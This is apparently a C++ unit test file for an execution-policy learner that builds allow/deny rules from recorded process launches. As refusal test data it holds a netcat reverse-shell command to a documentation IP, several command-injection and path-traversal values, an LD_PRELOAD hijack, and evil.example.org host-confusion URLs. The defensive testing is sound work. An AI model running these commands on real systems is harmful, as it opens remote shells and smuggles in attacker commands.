// `execseal policy learn`: what becomes of a recording, and what the policy then refuses.
#include "hook/cli/policy_learn.h"

#include <gtest/gtest.h>

#include "hook/cli/argument_shape.h"
#include "hook/cli/policy_text.h"
#include "tests/unit/policy_facts.h"
#include "tests/unit/recorded_lines.h"

namespace execseal {
namespace {

using test::Folder;
using test::Line;

struct Learning {
    int code = -1;
    std::string policy;
    std::string told;  // stderr
    std::string error;
};

Learning learn(const Folder& folder, const std::vector<Line>& lines, Width width = Width::kDefault,
               const std::string& into = "") {
    LearnCommand command;
    command.query.settings = folder.at("config.json");
    command.query.files = {folder.put("events.jsonl", lines)};
    command.width = width;
    command.into = into;
    testing::internal::CaptureStdout();
    testing::internal::CaptureStderr();
    const auto code = run_policy_learn(command);
    Learning learning;
    learning.policy = testing::internal::GetCapturedStdout();
    learning.told = testing::internal::GetCapturedStderr();
    if (code) {
        learning.code = *code;
    } else {
        learning.error = code.error().text();
    }
    return learning;
}

Policy policy_from(const std::string& text) {
    auto policy = Policy::parse(text, "learnt");
    EXPECT_TRUE(policy.has_value()) << policy.error().text() << text;
    return std::move(policy).value();
}

ExecFacts exec_in(const std::string& exe, std::vector<std::string> arguments,
                  const std::string& variable = "") {
    ExecFacts facts = test::exec_of(exe, std::move(arguments));
    facts.env = {"PATH=/usr/bin:/bin", "HOME=/root"};
    if (!variable.empty()) {
        facts.env.push_back(variable);
    }
    return facts;
}

bool runs(const Policy& policy, const ExecFacts& facts) {
    const Verdict verdict = judge(policy, facts).verdict;
    return verdict == Verdict::kAllow || verdict == Verdict::kAudit;
}

// A clone, a build and a test of a repository, with `name` in all that may be another one tomorrow.
std::vector<Line> build_job(const std::string& name, int number) {
    const std::string n = std::to_string(number);
    std::vector<Line> lines{
        {.exe = "/usr/bin/git",
         .arguments = {"clone", "--depth", n, "https://git.example.org/team/" + name + ".git",
                       "/work/" + name}},
        {.exe = "/usr/bin/git", .arguments = {"-C", "/work/" + name, "status", "--porcelain"}},
        {.exe = "/usr/bin/git",
         .arguments = {"checkout", "3f2a91c07bde4f5a6b7c8d9e0f1a2b3c4d5e6f7" + n}},
        {.exe = "/usr/bin/make", .arguments = {"-j" + n, "-C", "/work/" + name + "/src"}},
        {.exe = "/bin/sh", .arguments = {"-c", "cc -c " + name + ".c -o " + name + ".o"}},
        {.exe = "/work/" + name + "/build/test_" + name + "1", .arguments = {"--seed", n}}};
    for (const char* const part : {"a", "b", "c", "d", "e"}) {
        const std::string base = name + "_" + part;
        lines.push_back({.exe = "/usr/bin/cc",
                         .arguments = {"-O2", "-Wall", "-I/work/" + name + "/include", "-c",
                                       "src/" + base + ".c", "-o", "src/" + base + ".o"}});
        lines.push_back({.exe = "/usr/bin/as",
                         .arguments = {"-o", "src/" + base + ".o", "/tmp/cc" + base + "12.s"}});
    }
    return lines;
}

TEST(PolicyLearn, TheSecondRunHasOtherDataAndNoDenial) {
    const Folder folder;
    std::vector<Line> first = build_job("alpha", 3);
    first.pop_back();
    const Learning learning = learn(folder, first);
    ASSERT_EQ(learning.code, 0) << learning.error;
    const Policy policy = policy_from(learning.policy);
    for (const Line& line : build_job("beta", 7)) {
        if (line.exe.starts_with("/work/")) {
            continue;  // another program
        }
        EXPECT_TRUE(runs(policy, exec_in(line.exe, line.arguments)))
            << line.text() << learning.policy;
    }
    // The control: what is no data stays.
    EXPECT_FALSE(runs(policy, exec_in("/usr/bin/git", {"push", "origin", "main"})));
    EXPECT_FALSE(runs(policy, exec_in("/usr/bin/git", {"-c", "core.pager=id", "-C", "/work/alpha",
                                                       "status", "--porcelain"})));
    EXPECT_FALSE(runs(policy, exec_in("/usr/bin/git", {"-C", "/etc/x", "status", "--porcelain"})));
    EXPECT_FALSE(runs(policy, exec_in("/bin/sh", {"-c", "cc -c a.c -o a.o; id"})));
    EXPECT_FALSE(runs(policy, exec_in("/bin/sh", {"-c", "id"})));
    EXPECT_FALSE(runs(policy, exec_in("/usr/bin/cc", {"-O2", "-Wall", "-I/work/alpha/../../etc",
                                                      "-c", "src/a.c", "-o", "src/a.o"})));
    EXPECT_FALSE(runs(policy, exec_in("/usr/bin/python3", {"-c", "1"})));
}

TEST(PolicyLearn, APersonCanReadWhyARuleIsThere) {
    const Folder folder;
    const Learning learning = learn(folder, build_job("alpha", 3));
    const auto json = nlohmann::json::parse(learning.policy);
    EXPECT_EQ(json["default"], "deny");
    bool clone = false;
    for (const auto& rule : json["rules"]) {
        ASSERT_TRUE(rule.contains("description")) << rule;
        if (rule["id"] == "git-clone") {
            clone = true;
            EXPECT_NE(rule["description"].get<std::string>().find(
                          "Seen once, 2026-11-28 10:00:00 (UTC); for example /usr/bin/git clone"),
                      std::string::npos)
                << rule;
        }
    }
    EXPECT_TRUE(clone) << learning.policy;
    std::istringstream text(learning.policy);
    for (std::string line; std::getline(text, line);) {
        EXPECT_LT(line.size(), 400U) << line;
    }
}

TEST(PolicyLearn, EachWidthRefusesWhatItPromises) {
    for (const auto& [width, least] :
         {std::pair{Width::kStrict, 95.0}, std::pair{Width::kDefault, 85.0}}) {
        const Folder folder;
        std::vector<Line> lines = build_job("alpha", 3);
        for (const Line& line : build_job("beta", 5)) {
            lines.push_back(line);
        }
        const Learning learning = learn(folder, lines, width);
        ASSERT_EQ(learning.code, 0) << learning.error;
        const std::size_t at = learning.told.find("width: ");
        ASSERT_NE(at, std::string::npos) << learning.told;
        EXPECT_GE(std::stod(learning.told.substr(at + 7)), least) << learning.told;
        // What was refused is not all there is: the recording itself passes.
        const Policy policy = policy_from(learning.policy);
        for (const Line& line : lines) {
            EXPECT_TRUE(runs(policy, exec_in(line.exe, line.arguments))) << line.text();
        }
    }
}

// Many forms become one list of what may stand anywhere: a pattern for texts in it takes no flag,
// no path and no single word.
TEST(PolicyLearn, TextsOfSeveralWordsOpenNothingElse) {
    const Folder folder;
    std::vector<Line> lines;
    const std::vector<std::string> notes{"first try", "the second one", "mend it", "tidy up"};
    for (std::size_t i = 0; i < notes.size(); ++i) {
        lines.push_back({.exe = "/usr/bin/note", .arguments = {"add", "-m", notes[i]}});
        lines.push_back({.exe = "/usr/bin/note",
                         .arguments = {"add", "-q", "-m", notes[i], std::to_string(i)}});
        lines.push_back({.exe = "/usr/bin/note",
                         .arguments = {"add", "-k", "-m", notes[i], "/srv/notes/" + notes[i]}});
        lines.push_back({.exe = "/usr/bin/note", .arguments = {"add", "-z", "-m", notes[i]}});
    }
    const Policy policy = policy_from(learn(folder, lines).policy);
    EXPECT_TRUE(runs(policy, exec_in("/usr/bin/note", {"add", "-q", "-m", "a new text", "7"})));
    for (const char* const other : {"--delete", "/etc/shadow", "remove"}) {
        EXPECT_FALSE(runs(policy, exec_in("/usr/bin/note", {"add", "-q", "-m", other, "7"})))
            << other;
        EXPECT_FALSE(runs(policy, exec_in("/usr/bin/note", {"add", "-m", "a new text", other})))
            << other;
    }
}

// Where a program takes code, no text is an example of others; -c of git takes settings.
TEST(PolicyLearn, CodeIsNoText) {
    const Folder folder;
    std::vector<Line> lines;
    for (const std::string& word : {std::string("one"), std::string("two"), std::string("three")}) {
        lines.push_back(
            {.exe = "/usr/bin/python3", .arguments = {"-c", "print(1, '" + word + "')"}});
        lines.push_back(
            {.exe = "/usr/bin/python3", .arguments = {"/srv/x.py", word + " and more"}});
        lines.push_back({.exe = "/usr/bin/dash", .arguments = {"-c", word}});
        lines.push_back(
            {.exe = "/usr/bin/git",
             .arguments = {"-c", "user.name=T", "commit", "-m", "about " + word + " things"}});
    }
    const Policy policy = policy_from(learn(folder, lines).policy);
    EXPECT_TRUE(runs(policy, exec_in("/usr/bin/python3", {"-c", "print(1, 'one')"})));
    EXPECT_FALSE(runs(policy, exec_in("/usr/bin/python3", {"-c", "print(open('/etc/x'), 1)"})));
    EXPECT_FALSE(runs(policy, exec_in("/usr/bin/dash", {"-c", "reboot"})));
    EXPECT_TRUE(
        runs(policy, exec_in("/usr/bin/git", {"-c", "user.name=T", "commit", "-m", "a new one"})));
}

TEST(PolicyLearn, StrictAllowsLessThanLoose) {
    const Folder folder;
    const std::vector<Line> lines = build_job("alpha", 3);
    const Policy strict = policy_from(learn(folder, lines, Width::kStrict).policy);
    const Policy loose = policy_from(learn(folder, lines, Width::kLoose).policy);
    const ExecFacts other = exec_in("/usr/bin/make", {"-j3", "-C", "/work/beta/src"});
    EXPECT_FALSE(runs(strict, other));
    EXPECT_TRUE(runs(loose, other));
}

TEST(PolicyLearn, CopiesNoSecret) {
    const Folder folder;
    std::vector<Line> lines;
    for (const std::string& secret : {std::string("hunter2x"), std::string("correct-horse")}) {
        lines.push_back({.exe = "/usr/bin/psql", .arguments = {"--password=" + secret, "db"}});
        lines.push_back({.exe = "/usr/bin/vault", .arguments = {"login", "--token", secret}});
        lines.push_back({.exe = "/usr/bin/curl",
                         .arguments = {"-H", "Authorization: Bearer " + secret,
                                       "https://user:" + secret + "@example.org/x"}});
        lines.push_back({.exe = "/usr/bin/env",
                         .arguments = {"true"},
                         .env = {"PATH=/usr/bin:/bin", "HOME=/root", "API_TOKEN=" + secret,
                                 "GIT_ASKPASS_TOKEN=" + secret}});
    }
    for (const Width width : {Width::kStrict, Width::kDefault, Width::kLoose}) {
        const Learning learning = learn(folder, lines, width);
        ASSERT_EQ(learning.code, 0) << learning.error;
        for (const char* const secret : {"hunter2x", "correct-horse"}) {
            EXPECT_EQ(learning.policy.find(secret), std::string::npos) << learning.policy;
            EXPECT_EQ(learning.told.find(secret), std::string::npos) << learning.told;
        }
        const Policy policy = policy_from(learning.policy);
        EXPECT_TRUE(runs(policy, exec_in("/usr/bin/psql", {"--password=another", "db"})));
        EXPECT_FALSE(runs(policy, exec_in("/usr/bin/psql", {"--command=another", "db"})));
    }
}

TEST(PolicyLearn, WhatIsRareIsMarkedAndToldApart) {
    const Folder folder;
    std::vector<Line> lines(200, {.exe = "/usr/bin/git", .arguments = {"status"}});
    lines.push_back({.exe = "/usr/bin/nc", .arguments = {"-e", "/bin/sh", "198.51.100.7", "4444"}});
    const Learning learning = learn(folder, lines);
    ASSERT_EQ(learning.code, 0) << learning.error;
    EXPECT_NE(learning.told.find("rare-nc"), std::string::npos) << learning.told;
    const Policy policy = policy_from(learning.policy);
    EXPECT_EQ(test::verdict_of(policy, exec_in("/usr/bin/git", {"status"})), "allow git-status");
    EXPECT_EQ(
        test::verdict_of(policy, exec_in("/usr/bin/nc", {"-e", "/bin/sh", "198.51.100.7", "4444"})),
        "audit rare-nc");
    EXPECT_EQ(nlohmann::json::parse(learning.policy)["rules"].back()["id"], "rare-nc");
}

TEST(PolicyLearn, LearnsNothingFromWhatWasRefused) {
    const Folder folder;
    const Learning learning =
        learn(folder, {{.exe = "/usr/bin/git", .arguments = {"status"}, .verdict = "allow"},
                       {.exe = "/usr/bin/nc", .verdict = "deny"},
                       {.exe = "/usr/bin/ncat", .verdict = "kill"}});
    ASSERT_EQ(learning.code, 0) << learning.error;
    const Policy policy = policy_from(learning.policy);
    EXPECT_TRUE(runs(policy, exec_in("/usr/bin/git", {"status"})));
    EXPECT_FALSE(runs(policy, exec_in("/usr/bin/nc", {})));
    EXPECT_FALSE(runs(policy, exec_in("/usr/bin/ncat", {})));
    EXPECT_NE(learning.told.find("left out: 2 execs that a policy refused"), std::string::npos)
        << learning.told;
    EXPECT_FALSE(learn(folder, {{.exe = "/usr/bin/nc", .verdict = "deny"}}).error.empty());
}

TEST(PolicyLearn, VariablesThatWereNotSeenAreRefused) {
    const Folder folder;
    const Learning learning = learn(
        folder, {{.exe = "/usr/bin/git", .arguments = {"status"}},
                 {.exe = "/usr/lib/git-core/git-upload-pack",
                  .arguments = {"/srv/x.git"},
                  .env = {"PATH=/usr/bin:/bin", "HOME=/root", "GIT_EXEC_PATH=/usr/lib/git-core"}}});
    const Policy policy = policy_from(learning.policy);
    EXPECT_TRUE(runs(policy, exec_in("/usr/bin/git", {"status"})));
    EXPECT_FALSE(runs(policy, exec_in("/usr/bin/git", {"status"}, "LD_PRELOAD=/tmp/x.so")));
    EXPECT_FALSE(
        runs(policy, exec_in("/usr/bin/git", {"status"}, "GIT_EXEC_PATH=/usr/lib/git-core")))
        << "another program had it";
    const std::string pack = "/usr/lib/git-core/git-upload-pack";
    EXPECT_TRUE(runs(policy, exec_in(pack, {"/srv/y.git"}, "GIT_EXEC_PATH=/usr/lib/git-core")));
    EXPECT_FALSE(runs(policy, exec_in(pack, {"/srv/y.git"}, "GIT_EXEC_PATH=/tmp/evil")));
}

TEST(PolicyLearn, IntoKeepsEveryByteOfWhatIsThere) {
    const Folder folder;
    const std::string hand =
        "{\n  \"apiVersion\": \"execseal/v1\", \"name\": \"web\",\n  \"default\": \"deny\",\n"
        "  \"rules\": [\n"
        "    {\"id\": \"no-nc\", \"verdict\": \"kill\", \"exe\": \"**/nc\"},  \n"
        "    {\"id\": \"git-status\",   \"verdict\": \"allow\", \"exe\": \"/usr/bin/git\"}\n  "
        "]\n}\n";
    folder.put("policies.d/web.json", hand);
    const std::vector<Line> lines{{.exe = "/usr/bin/git", .arguments = {"status"}},
                                  {.exe = "/usr/bin/nc", .arguments = {"-l"}},
                                  {.exe = "/usr/bin/make", .arguments = {"all"}}};
    const Learning learning = learn(folder, lines, Width::kDefault, "web");
    ASSERT_EQ(learning.code, 0) << learning.error;
    EXPECT_TRUE(learning.policy.empty());
    const std::string text = folder.read("policies.d/web.json");
    EXPECT_EQ(text.substr(0, hand.find("\n  ]")), hand.substr(0, hand.find("\n  ]"))) << text;
    EXPECT_TRUE(text.ends_with("]\n}\n")) << text;
    const Policy policy = policy_from(text);
    EXPECT_EQ(test::verdict_of(policy, exec_in("/usr/bin/make", {"all"})), "allow make-all");
    EXPECT_EQ(test::verdict_of(policy, exec_in("/usr/bin/nc", {"-l"})), "kill no-nc");
    EXPECT_NE(learning.told.find("/usr/bin/nc -l: refused by rule no-nc"), std::string::npos)
        << learning.told;
    // A second time there is nothing new.
    const Learning again = learn(folder, lines, Width::kDefault, "web");
    EXPECT_EQ(again.code, 0) << again.error;
    EXPECT_EQ(folder.read("policies.d/web.json"), text);
}

TEST(PolicyLearn, IntoAFileThatIsNotThereMakesIt) {
    const Folder folder;
    const Learning learning = learn(folder, {{.exe = "/usr/bin/git", .arguments = {"status"}}},
                                    Width::kDefault, folder.at("new.json"));
    ASSERT_EQ(learning.code, 0) << learning.error;
    EXPECT_EQ(policy_from(folder.read("new.json")).name(), "new");
    folder.put("bad.json", "{");
    EXPECT_FALSE(learn(folder, {{.exe = "/usr/bin/git"}}, Width::kDefault, folder.at("bad.json"))
                     .error.empty());
    EXPECT_EQ(folder.read("bad.json"), "{");
}

TEST(PolicyLearn, BytesThatAreNoTextStay) {
    const Folder folder;
    const Learning learning = learn(
        folder,
        {{.exe = "/usr/bin/x", .more = {{"argv", {"x", {{"hex", "ff2f41"}}, {{"hex", "ff41"}}}}}}});
    EXPECT_EQ(learning.code, 0) << learning.error;
    const Policy policy = policy_from(learning.policy);
    EXPECT_TRUE(runs(policy, exec_in("/usr/bin/x", {"\xff/A", "\xff\x41"})));
    EXPECT_FALSE(runs(policy, exec_in("/usr/bin/x", {"\xff/A", "\xff\x42"})));
}

// One large exec must not spoil the whole recording: what no rule could tell is named, the rest is
// learnt.
TEST(PolicyLearn, WhatIsTooLargeForARuleIsSetApartByName) {
    std::vector<std::string> texts(40);
    for (std::size_t i = 0; i < texts.size(); ++i) {
        texts[i] = std::string(100'000, '|') + std::to_string(i);
    }
    const nlohmann::json bytes{{"hex", [] {
                                    std::string hex;
                                    for (int i = 0; i < 20'000; ++i) {
                                        hex += i % 3 == 0 ? "fe" : "c1";
                                    }
                                    return hex;
                                }()}};
    std::vector<std::string> variables;
    for (int i = 0; i < 5000; ++i) {
        variables.push_back("V" + std::to_string(i) + "=1");
    }
    std::vector<std::string> files;
    for (int i = 0; i < 1500; ++i) {
        files.push_back("/srv/data/f" + std::to_string(i) + ".c");
    }
    const std::vector<Line> lines{
        {.exe = "/usr/bin/git", .arguments = {"status"}},
        {.exe = "/usr/bin/texts", .arguments = texts, .more = {{"id", "e-1"}}},
        {.exe = "/usr/bin/bytes",
         .more = {{"argv", {"bytes", bytes, bytes, bytes, bytes, bytes}}, {"id", "e-2"}}},
        {.exe = "/usr/bin/many", .arguments = std::vector<std::string>(100'000, "x")},
        {.exe = "/usr/bin/variables", .env = variables},
        {.exe = "/usr/bin/gcc", .arguments = files},
    };
    const Folder folder;
    const Learning learnt = learn(folder, lines);
    ASSERT_EQ(learnt.code, 0) << learnt.error;
    EXPECT_LT(learnt.policy.size(), 100'000U);
    EXPECT_NE(learnt.told.find("from 2 execs (2 different)"), std::string::npos) << learnt.told;
    EXPECT_NE(learnt.told.find("left out: 4 execs too large for a rule to tell"), std::string::npos)
        << learnt.told;
    EXPECT_NE(learnt.told.find("event e-1: 41 arguments of 4000075 bytes"), std::string::npos)
        << learnt.told;
    const Policy policy = policy_from(learnt.policy);
    EXPECT_EQ(judge(policy, exec_in("/usr/bin/git", {"status"})).verdict, Verdict::kAllow);
    EXPECT_EQ(judge(policy, exec_in("/usr/bin/gcc", {"/srv/data/f7.c", "/srv/data/new.c"})).verdict,
              Verdict::kAllow)
        << "a long list of files is learnt as xargs(1) makes it";
    EXPECT_EQ(judge(policy, exec_in("/usr/bin/many", {"x"})).verdict, Verdict::kDeny);
}

TEST(PolicyLearn, AShapeIsAnExampleOfItsKind) {
    struct Example {
        std::string seen;
        std::vector<std::string> like;
        std::vector<std::string> unlike;
    };
    const std::vector<Example> examples{
        {"/srv/repo/a.c",
         {"/srv/repo/sub/b.c"},
         {"/srv/repo/b.sh", "/srv/repo/../x.c", "/etc/b.c"}},
        {"--count=12", {"--count=7"}, {"--count=x", "--other=12", "--count=1;id"}},
        {"-j4", {"-j16"}, {"-j", "-k4"}},
        {"550e8400-e29b-41d4-a716-446655440000", {"123e4567-e89b-12d3-a456-426614174000"}, {"x"}},
        {"2026-11-28", {"2025-01-02"}, {"2025"}},
        {"https://h.example.org/a/b.git",
         {"https://h.example.org/c/d.git"},
         {"https://evil.example.org/a/b.git", "https://h.example.org/$(id).git"}},
        {"http://127.0.0.1:8080/a.html",
         {"http://127.0.0.1:9090/b/c.html"},
         {"http://127.0.0.2:8080/a.html", "http://127.0.0.1:8080@evil.example.org/a.html"}},
        {"10.0.0.7", {"192.168.1.2"}, {"localhost"}},
        {"@test_4711_tmp\xe7", {"@test_8_tmp\xe7"}, {"@test_x_tmp\xe7", "@other_8_tmp\xe7"}},
        {"/usr/lib/x/tool", {}, {"/usr/lib/x/other"}},
    };
    for (const Example& example : examples) {
        const ArgumentShape shape = shape_of(example.seen, Width::kDefault);
        const std::string condition = R"("exe": "/x", "argv": {"exact": [)" +
                                      nlohmann::json{{"regex", shape.regex}}.dump() + "]}";
        EXPECT_TRUE(test::passes(condition, test::exec_of("/x", {example.seen}))) << shape.regex;
        for (const std::string& like : example.like) {
            EXPECT_TRUE(test::passes(condition, test::exec_of("/x", {like})))
                << like << " " << shape.regex;
        }
        for (const std::string& unlike : example.unlike) {
            EXPECT_FALSE(test::passes(condition, test::exec_of("/x", {unlike})))
                << unlike << " " << shape.regex;
        }
    }
}

}  // namespace
}  // namespace execseal
